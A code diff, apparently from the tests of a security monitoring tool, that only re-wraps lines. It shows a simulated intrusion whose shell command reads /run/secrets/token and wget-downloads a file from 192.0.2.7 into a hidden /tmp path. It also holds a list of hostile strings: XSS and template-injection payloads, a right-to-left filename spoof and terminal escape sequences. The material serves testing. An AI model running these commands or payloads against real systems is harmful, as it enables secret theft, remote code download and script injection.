@@ -75,7 +75,8 @@ static void serve(int requests)
 
 static void intrude(void)
 {
-	run(4300, 4201, "/bin/sh", "sh|-c|id; cat /run/secrets/token; wget -O /tmp/.x http://192.0.2.7/x");
+	run(4300, 4201, "/bin/sh",
+	    "sh|-c|id; cat /run/secrets/token; wget -O /tmp/.x http://192.0.2.7/x");
 	run(4301, 4300, "/usr/bin/id", "id");
 	sample_exit(&s, &web, 4301, 4300, 0, 0);
 	sample_open_file(&s, &web, 4300, "/run/secrets/token", SAMPLE_READ);
@@ -129,7 +130,8 @@ static const char *const hostile_texts[] = {
 	"]]>'\"><svg onload=window.pwned=4>",
 	"javascript:window.pwned=5//",
 	"{{constructor.constructor('window.pwned=6')()}}",
-	"\xe2\x80\xae" "gnp.exe\xe2\x80\xac \xe2\x80\xa8 \xe2\x80\xa9 \xef\xbb\xbf \xf3\xa0\x81\x81",
+	"\xe2\x80\xae"
+	"gnp.exe\xe2\x80\xac \xe2\x80\xa8 \xe2\x80\xa9 \xef\xbb\xbf \xf3\xa0\x81\x81",
 	"\x1b]0;title\x07\x1b[31m\r\n\t\x7f\xc2\x9b",
 	"not UTF-8: \xff\xc0\xaf\xed\xa0\x80\xf5",
 	"&lt;b&gt; &amp; \\u003cscript\\u003e \\\"",
